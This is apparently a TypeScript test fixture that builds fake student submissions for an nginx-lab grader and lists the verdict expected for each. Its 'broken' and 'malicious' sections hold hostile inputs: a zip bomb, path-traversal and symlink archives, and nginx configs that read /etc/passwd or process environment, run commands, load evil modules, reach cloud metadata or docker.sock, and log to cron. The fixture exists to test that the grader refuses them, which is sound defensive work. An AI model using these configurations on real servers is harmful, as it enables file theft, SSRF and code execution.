import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { labs } from '../../../labs/catalog.ts';
import { labFolder, solutionFolder } from '../../workspace/index.ts';
import { makeTar, makeZip } from '../archives/testing/make.ts';
import type { GradedOutcome, SubmissionProblem } from '../graded.ts';
import type { Folder } from './folder.ts';

/** What the grader has to say about one attempt. */
export interface ExpectedVerdict {
  readonly outcome: GradedOutcome;
  /** Ids of the objectives that fail, in the order of the lab. */
  readonly failed?: readonly string[];
  readonly problem?: SubmissionProblem['kind'];
  /** Seconds after the deadline. */
  readonly late?: number;
}

/** A class that nobody is in: its submissions, and the verdict on each by `student lab attempt`. */
export interface MadeUpClass {
  readonly submissions: string;
  readonly roster: string;
  readonly expected: ReadonlyMap<string, ExpectedVerdict>;
  /** Students who did the same, in pairs. */
  readonly alike: readonly (readonly [string, string])[];
}

export const deadline = '2026-03-01T12:00:00Z';

type Files = Readonly<Record<string, string | Uint8Array>>;

const source = (file: string): string => readFileSync(file, 'utf8');
const folderOf = (lab: number): string => labs.find(({ number }) => number === lab)!.folder;
const solution = (lab: number, file = 'conf.d/default.conf'): string =>
  source(path.join(solutionFolder(folderOf(lab)), file));
const starter = (lab: number, file = 'conf.d/default.conf'): string =>
  source(path.join(labFolder(folderOf(lab)), 'start', file));

/** Files with a typical mistake, and what each of them fails by its first line. */
function wrongs(lab: number): readonly { name: string; text: string; failed: readonly string[] }[] {
  const folder = path.join(solutionFolder(folderOf(lab)), 'wrong');
  return readdirSync(folder)
    .sort()
    .map((file) => {
      const text = source(path.join(folder, file));
      const ids = /^# fails: (.+)/.exec(text)![1]!.split(', ');
      return { name: file.replace('.conf', ''), text: text.replace(/^#.*\n#.*\n/, ''), failed: ids };
    });
}

/** A class of more than sixty, in the forms in which systems hand submissions over. */
export async function makeClass(folder: Folder): Promise<MadeUpClass> {
  const made = new Class();
  right(made);
  wrong(made);
  await packed(made);
  await broken(made);
  malicious(made);
  attempts(made);
  const submissions = Object.fromEntries(
    Object.entries(made.files).map(([name, content]) => [`submissions/${name}`, content]),
  );
  folder.write(submissions);
  const lines = made.students.map(
    (name, at) =>
      `${name},${name[0]!.toUpperCase()}${name.slice(1)} ${at},${name}@example.org,${1000 + at},${made.times.get(name) ?? ''}`,
  );
  const roster = ['id,name,email,moodle id,submitted at', ...lines, 'absent,Nobody Here,absent@example.org,999,'].join(
    '\n',
  );
  return {
    submissions: folder.place('submissions'),
    roster,
    expected: made.expected,
    alike: [
      ['another-log-format-1', 'tries'],
      ['canned-return-1', 'tries'],
      ['copies-a', 'copies-b'],
    ],
  };
}

class Class {
  readonly files: Record<string, string | Uint8Array> = {};
  readonly expected = new Map<string, ExpectedVerdict>();
  readonly students: string[] = [];
  readonly times = new Map<string, string>();

  /** Hands in files below the student's own folder. */
  add(student: string, lab: number, files: Files, verdict: ExpectedVerdict, attempt = 1): void {
    this.enrol(student);
    for (const [name, content] of Object.entries(files)) this.files[name] = content;
    this.expected.set(`${student} lab${lab} ${attempt}`, verdict);
  }

  enrol(student: string): void {
    if (!this.students.includes(student)) this.students.push(student);
  }

  /** As Moodle names folders. */
  moodle(student: string): string {
    this.enrol(student);
    return `${student}_${1000 + this.students.indexOf(student)}_assignsubmission_file_`;
  }
}

/** A proxy of Node's own parts, as a student would build it. */
const ownProgram = `import http from 'node:http';

const [host, port] = process.env.CATALOG!.split(':');
http
  .createServer((request, response) => {
    const onward = http.request(
      { host, port, method: request.method, path: request.url, headers: { ...request.headers, connection: 'close' } },
      (answer) => {
        response.writeHead(answer.statusCode!, answer.headers);
        answer.pipe(response);
      },
    );
    onward.on('error', () => response.writeHead(502).end());
    request.pipe(onward);
  })
  .listen(Number(process.env.PORT), '127.0.0.1');
`;
const builtPasses: ExpectedVerdict = { outcome: 'passed', failed: ['lab2.client-identity', 'lab2.forwarded-proto'] };

const passed: ExpectedVerdict = { outcome: 'passed', failed: [] };

function right(made: Class): void {
  for (const lab of [1, 2, 3, 4, 5])
    made.add(`right${lab}`, lab, { [`lab${lab}/right${lab}/default.conf`]: solution(lab) }, passed);
  made.add('builds', 2, { 'builds/lab2/proxy.ts': ownProgram }, builtPasses);
  const own = (backend: string) => `# my very own way of doing it, thought up at night
map $request_method $kept { default yes; POST no; }
upstream ${backend} { server 127.0.0.1:8080 max_fails=0 weight=7; keepalive 3; }
server {
  listen 80; server_name _;
  client_max_body_size 3m; proxy_read_timeout 17s; proxy_buffers 9 8k;
  add_header X-Kept $kept always;
  location / { proxy_pass http://${backend}; proxy_connect_timeout 3s; }
}
`;
  const extras = { outcome: 'passed', failed: ['lab2.client-identity', 'lab2.forwarded-proto'] } as const;
  made.add('copies-a', 2, { 'copies-a/lab2/default.conf': own('films') }, extras);
  const reordered = own('pictures')
    .replace('  listen 80; server_name _;\n', '')
    .replace('  location', '  server_name _;\n\n  listen 80;\n  location')
    .replace(/^#.*\n/, '');
  made.add('copies-b', 2, { 'lab2/copies-b.conf': reordered }, extras);
}

function wrong(made: Class): void {
  for (const lab of [1, 2, 4]) {
    for (const { name, text, failed } of wrongs(lab)) {
      // Lab 2 waits for an application to return, which takes its time.
      if (lab === 2 && !/^(believes|canned|lost|missing|misspelled|wrong)/.test(name)) continue;
      const verdict: ExpectedVerdict = { outcome: isPass(failed, lab) ? 'passed' : 'failed', failed };
      made.add(`${name}-${lab}`, lab, { [`lab${lab}/${name}-${lab}/default.conf`]: text }, verdict);
    }
    const fails = {
      1: ['welcome-page', 'index', 'missing-page', 'error-page', 'content-types', 'conditional'],
      2: ['forwards'],
      4: ['posters', 'not-the-app'],
    }[lab]!;
    made.add(
      `starter-${lab}`,
      lab,
      { [`lab${lab}/starter-${lab}.conf`]: starter(lab) },
      {
        outcome: 'failed',
        failed: fails.map((slug) => `lab${lab}.${slug}`),
      },
    );
  }
  for (const { name, text, failed } of wrongs(3)) {
    if (!['backup', 'one-instance', 'missing-brace', 'unknown-upstream'].includes(name)) continue;
    made.add(`${name}-3`, 3, { [`lab3/${name}-3/conf.d/default.conf`]: text }, { outcome: 'failed', failed });
  }
}

/** Whether only extra points are missing. */
function isPass(failed: readonly string[], lab: number): boolean {
  const extra: Readonly<Record<number, readonly string[]>> = {
    1: ['access-log', 'conditional'],
    2: ['client-identity', 'forwarded-proto', 'verbatim'],
    4: ['caching', 'only-jpg', 'fallback'],
  };
  return failed.every((id) => extra[lab]!.includes(id.split('.')[1]!));
}

async function packed(made: Class): Promise<void> {
  const conf = solution(1);
  const zip = await makeZip([
    { name: 'etc/nginx/conf.d/default.conf', content: conf },
    { name: '__MACOSX/._x', content: 'x' },
  ]);
  made.add('zips', 1, { [`lab1/${made.moodle('zips')}/work.zip`]: zip }, passed);
  made.add(
    'tars',
    1,
    { [`lab1/${made.moodle('tars')}/work.tar`]: makeTar([{ name: 'mine/default.conf', content: conf }]) },
    passed,
  );
  made.add('flat', 4, { [`lab4/${made.moodle('flat')}default.conf`]: solution(4) }, passed);
}

async function broken(made: Class): Promise<void> {
  const good = await makeZip([{ name: 'default.conf', content: solution(1) }]);
  const bomb = await makeZip([{ name: 'zeros', content: Buffer.alloc(64 * 1024 * 1024) }]);
  const refused = (student: string, name: string, content: string | Uint8Array, problem: SubmissionProblem['kind']) =>
    made.add(student, 1, { [`lab1/${student}/${name}`]: content }, { outcome: 'refused', problem });
  refused('torn', 'work.zip', good.subarray(0, good.length - 40), 'broken-archive');
  refused('noise', 'work.tar.gz', 'this is no archive', 'unrecognised');
  refused('bomb', 'work.zip', bomb, 'too-large');
  refused('climber', 'work.tar', makeTar([{ name: '../../climbed.conf', content: 'x' }]), 'refused');
  refused('linker', 'work.tar', makeTar([{ name: 'default.conf', type: 'link', target: '/etc/passwd' }]), 'refused');
  refused('hollow', 'work.zip', await makeZip([]), 'empty');
  refused('blank', 'default.conf', ' \n\t\n', 'empty');
  refused('zero', 'default.conf', '', 'empty');
  refused('huge', 'default.conf', Buffer.alloc(33 * 1024 * 1024, '#'), 'too-large');
  refused('essay', 'answer.docx', 'The answer is proxy_pass.', 'unrecognised');
  refused('inside', 'server.txt', 'http://169.254.169.254/latest/meta-data/\n', 'refused');
  refused('local', 'server.txt', 'http://localhost:5432/', 'refused');
  made.add(
    'gone',
    1,
    { 'lab1/gone/server.txt': 'http://gone.invalid/' },
    { outcome: 'failed', failed: ['startup'], problem: 'unreachable' },
  );
  made.add(
    'gone-too',
    2,
    { 'gone-too/lab2.url': '[InternetShortcut]\nURL=http://my-server.invalid:8000/\n' },
    {
      outcome: 'failed',
      failed: ['startup'],
      problem: 'unreachable',
    },
  );
}

/** Configurations that would lead out: none of them may start, and each says which line is to blame. */
function malicious(made: Class): void {
  const server = (text: string) => `server {\n  listen 80;\n  ${text}\n}\n`;
  const ways: Readonly<Record<string, string>> = {
    'loads-a-module': `load_module /tmp/evil.so;\nhttp { ${server('')} }\nevents {}\n`,
    'includes-passwd': server('include /etc/passwd;'),
    'includes-environ': server('include /proc/self/environ;'),
    'logs-to-pipe': server('access_log /proc/self/fd/3;'),
    'types-passwd': server('types { include /etc/passwd; }'),
    'serves-root': server('root /;'),
    'serves-home': server('location / { alias /root/; }'),
    'runs-perl': server(`location / { perl 'sub { system("id") }'; }`),
    'runs-lua': server(`location / { content_by_lua_block { os.execute("id") } }`),
    'runs-js': `js_import /tmp/evil.js;\n${server('')}`,
    'asks-metadata': server('location / { proxy_pass http://169.254.169.254; }'),
    'hides-metadata': server('set $h 169.254.169.254;\n  location / { proxy_pass http://$h; }'),
    'joins-metadata': server('set $a 169.254;\n  set $b .169.254;\n  location / { proxy_pass http://$a$b/; }'),
    'unix-socket': server('location / { proxy_pass http://unix:/var/run/docker.sock; }'),
    'listens-unix': 'server { listen unix:/tmp/x.sock; }\n',
    'logs-to-cron': server('error_log /etc/cron.d/x;'),
    'logs-afar': server('access_log syslog:server=192.0.2.1;'),
    'stores-away': server('location / { proxy_pass http://127.0.0.1:8080; proxy_store /tmp/stolen$uri; }'),
    'writes-temp': server('client_body_temp_path /tmp/bodies;'),
    'own-resolver': server('resolver 192.0.2.53;'),
    'reads-key': server('ssl_certificate /etc/ssl/private/key.pem;'),
  };
  for (const [name, text] of Object.entries(ways))
    made.add(name, 1, { [`lab1/${name}.conf`]: text }, { outcome: 'refused', failed: ['startup'], problem: 'refused' });
  // Nothing of these leads out: they start, and never come to an end of their own.
  const forwards: ExpectedVerdict = { outcome: 'failed', failed: ['lab2.forwards'] };
  made.add(
    'asks-itself',
    2,
    { 'lab2/asks-itself.conf': server('location / { proxy_pass http://127.0.0.1; }') },
    forwards,
  );
  made.add('goes-round', 2, { 'lab2/goes-round.conf': server('location / { rewrite ^ /round last; }') }, forwards);
}

function attempts(made: Class): void {
  const [one, two] = [wrongs(1)[0]!, wrongs(1)[1]!];
  made.add('tries', 1, { 'tries/lab1/attempt1/default.conf': two.text }, { outcome: 'failed', failed: two.failed });
  made.add('tries', 1, { 'tries/lab1/attempt2/default.conf': solution(1) }, passed, 2);
  made.add('tries', 1, { 'tries/lab1/attempt3/default.conf': one.text }, { outcome: 'passed', failed: one.failed }, 3);
  made.add('late', 1, { 'lab1/late.conf': solution(1) }, { ...passed, late: 90_000 });
  made.times.set('late', '2026-03-02T13:00:00Z');
  made.add('early', 4, { 'lab4/early.conf': solution(4) }, passed);
  made.times.set('early', '2026-03-01T11:59:59Z');
}
